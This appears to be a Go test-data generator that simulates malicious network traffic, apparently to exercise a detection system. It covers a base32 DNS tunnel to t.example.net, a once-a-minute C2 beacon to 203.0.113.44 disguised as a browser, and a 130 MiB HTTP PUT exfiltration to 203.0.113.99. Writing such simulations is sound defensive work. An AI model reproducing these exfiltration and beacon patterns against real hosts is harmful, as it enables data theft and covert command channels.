package simulate

import (
	"encoding/base32"
	"fmt"
	"net/netip"
	"strings"
	"time"
)

// leaving is what goes out: data and calls home.
func leaving() []Scenario {
	return []Scenario{
		{"dns-tunnel", "B92", one("dns_tunnel", "192.168.1.81", ""), dnsTunnel},
		{"c2-beacon", "B94", one("c2_beacon", "192.168.1.80", "203.0.113.44"), beacon},
		{"exfiltration", "B92", one("exfiltration", "192.168.1.70", "203.0.113.99"), func(s *stage) {
			s.upload(0, address("192.168.1.70"), door("203.0.113.99:80"), 130<<20)
		}},
	}
}

// dnsTunnel carries data in names, and back in texts.
func dnsTunnel(s *stage) {
	text := base32.StdEncoding.WithPadding(base32.NoPadding)
	for i := range 240 {
		name := strings.ToLower(text.EncodeToString(s.noise(30)) + "." + text.EncodeToString(s.noise(25)))
		kind, answer := uint16(typeTXT), sized(1, []byte(text.EncodeToString(s.noise(60))))
		if i%3 == 0 {
			kind, answer = typeMX, append([]byte{0, 10}, 4, 'm', 'a', 'i', 'l', 0xc0, 12)
		}
		s.lookup(time.Duration(i)*250*time.Millisecond, address("192.168.1.81"), door("192.168.1.1:53"), name+".t.example.net", kind, answer)
	}
}

// beacon asks a bare address once a minute, under the name of a browser and without what
// every browser sends.
func beacon(s *stage) {
	for i := range 40 {
		c := s.open(time.Duration(i)*time.Minute+s.within(0, 2*time.Second), address("192.168.1.80"), door("203.0.113.44:80"))
		c.ask([]byte(fmt.Sprintf("GET /s?k=%08x HTTP/1.1\r\nHost: 203.0.113.44\r\nUser-Agent: %s\r\n\r\n", 0x5eed, browser)))
		c.tell(reply("200 OK", 16))
		c.end()
	}
}

// upload sends a file by HTTP, about 25 MiB a second.
func (s *stage) upload(at time.Duration, from netip.Addr, to netip.AddrPort, size int) {
	c := s.open(at, from, to)
	c.ask([]byte(fmt.Sprintf("PUT /archive.zip HTTP/1.1\r\nHost: files.example.org\r\nUser-Agent: curl/8.14.1\r\nAccept: */*\r\nContent-Length: %d\r\n\r\n", size)))
	c.pour(size, 25<<20, true)
	c.tell(reply("201 Created", 14))
	c.end()
}
